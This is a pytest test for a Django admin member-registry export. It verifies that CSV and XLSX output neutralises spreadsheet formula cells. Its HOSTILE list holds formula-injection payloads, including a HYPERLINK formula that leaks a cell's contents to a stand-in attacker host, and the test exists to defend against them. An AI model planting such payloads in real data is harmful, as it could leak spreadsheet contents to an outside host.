"""Issue 9.7 for the django-import-export admin resources: a cell a spreadsheet would evaluate comes out as text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from certification.models import Role

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def _export(client, fmt_index):
    url = reverse("admin:payments_memberrecord_export")
    page = client.get(url)
    assert page.status_code == 200
    return client.post(url, {"format": str(fmt_index), "resource": "0",
                             **{f"memberrecordresource_{f}": "on" for f in ("number", "name", "valid_until")}})


def test_member_registry_export_neutralises_formula_cells_in_csv_and_xlsx(client, make_user):
    import datetime as dt

    from payments.models import MemberRecord

    for n, name in enumerate(HOSTILE):
        MemberRecord.objects.create(number=f"M{n:03d}", name=name[:50], valid_until=dt.date(2030, 1, 1))
    client.force_login(make_user(Role.ADMINISTRATOR, is_superuser=True, is_staff=True))

    response = _export(client, 0)  # CSV
    assert response.status_code == 200, response.content[:500]
    text = response.content.decode("utf-8-sig")
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(names) == sorted("'" + h[:50] for h in HOSTILE)

    response = _export(client, 1)  # XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(cells) == sorted("'" + h[:50] for h in HOSTILE)
    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value)
